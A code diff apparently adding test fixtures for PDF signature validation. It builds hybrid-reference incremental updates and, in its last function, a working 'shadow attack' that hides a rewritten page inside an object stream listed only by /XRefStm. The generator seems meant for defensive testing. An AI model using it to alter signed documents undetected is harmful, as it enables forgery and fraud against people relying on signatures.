@@ -1223,3 +1223,94 @@ def retitled(pdf: bytes, title: str, *, xmp: bool = False) -> bytes:
     out = BytesIO()
     writer.write(out)
     return out.getvalue()
+
+
+# -- Hybrid updates (a table and its /XRefStm), as writers update hybrid-reference files ------------
+
+
+def _object_stream(objects: dict[int, bytes]) -> bytes:
+    header = b" ".join(b"%d %d" % (n, o) for n, o in _packed_offsets(objects)) + b" "
+    packed = header + b"".join(value + b" " for value in objects.values())
+    return (
+        b"<< /Type /ObjStm /N %d /First %d /Length %d >>\nstream\n"
+        % (len(objects), len(header), len(packed))
+        + packed
+        + b"\nendstream"
+    )
+
+
+def _packed_offsets(objects: dict[int, bytes]) -> list[tuple[int, int]]:
+    offsets, at = [], 0
+    for number, value in objects.items():
+        offsets.append((number, at))
+        at += len(value) + 1
+    return offsets
+
+
+def hybrid_update(
+    pdf: bytes,
+    *,
+    packed: dict[int, bytes] | None = None,
+    with_dss: bool = True,
+    conflicting: bool = False,
+) -> bytes:
+    """An update as a writer makes it to a hybrid-reference file: a cross-reference table (with
+    the catalogue and an object stream) whose trailer's ``/XRefStm`` names a cross-reference
+    stream of the same update listing what is inside the object stream. By default the object
+    stream holds a ``/DSS`` (validation data, an honest update); ``packed`` puts other objects in
+    it (the page, rewritten); ``conflicting``: the stream also lists the catalogue, elsewhere than
+    the table does."""
+    reader = PdfFileReader(BytesIO(pdf), strict=False)
+    size = int(reader.trailer["/Size"])
+    root = reader.trailer.raw_get("/Root")
+    inside = dict(packed or {})
+    plain: dict[int, bytes] = {}
+    if with_dss:
+        catalog = generic.DictionaryObject(reader.root)
+        catalog[_n("/DSS")] = generic.IndirectObject(size, 0, reader)
+        plain[root.idnum] = _serialised(catalog)
+        inside[size] = b"<< /Certs [] >>"
+    stream_number, xref_number = size + 1, size + 2
+    plain[stream_number] = _object_stream(inside)
+    body = bytearray(b"\n")
+    offsets: dict[int, int] = {}
+    for number, value in plain.items():
+        offsets[number] = len(pdf) + len(body)
+        body += b"%d 0 obj\n" % number + value + b"\nendobj\n"
+    rows = {n: (2, stream_number, i) for i, n in enumerate(inside)}
+    if conflicting:
+        rows[root.idnum] = (2, stream_number, 0)
+    data = b"".join(
+        bytes([rows[n][0]]) + rows[n][1].to_bytes(4, "big") + rows[n][2].to_bytes(2, "big")
+        for n in sorted(rows)
+    )
+    index = b" ".join(b"%d 1" % n for n in sorted(rows))
+    xref_stream_at = len(pdf) + len(body)
+    body += (
+        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Index [%s] /Length %d >>\nstream\n"
+        % (xref_number, xref_number + 1, index, len(data))
+        + data
+        + b"\nendstream\nendobj\n"
+    )
+    table_at = len(pdf) + len(body)
+    body += b"xref\n0 1\n0000000000 65535 f \n" + b"".join(
+        b"%d 1\n%010d 00000 n \n" % (n, offsets[n]) for n in sorted(offsets)
+    )
+    body += (
+        b"trailer\n<< /Size %d /Root %d 0 R /Prev %d /XRefStm %d >>\nstartxref\n%d\n%%%%EOF\n"
+        % (xref_number + 1, root.idnum, last_startxref(pdf), xref_stream_at, table_at)
+    )
+    return pdf + bytes(body)
+
+
+def shadow_replace_in_hybrid_update(pdf: bytes) -> bytes:
+    """Shadow attack, *hide-and-replace*, through a hybrid update: the page dictionary rewritten
+    inside the object stream that only the ``/XRefStm`` lists (a reader that ignores hybrid
+    sections, and the table, know nothing of it): its ``/Contents`` is the hidden stream alone."""
+    page_ref, (hidden, _) = _page_and_contents(pdf)
+    page = generic.DictionaryObject(page_ref.get_object())
+    page[_n("/Contents")] = generic.ArrayObject([hidden])
+    out = hybrid_update(pdf, packed={page_ref.idnum: _serialised(page)}, with_dss=True)
+    shown = PdfFileReader(BytesIO(out), strict=False).root["/Pages"]["/Kids"][0]["/Contents"]
+    assert len(shown) == 1, "the page still draws the overlay"
+    return out
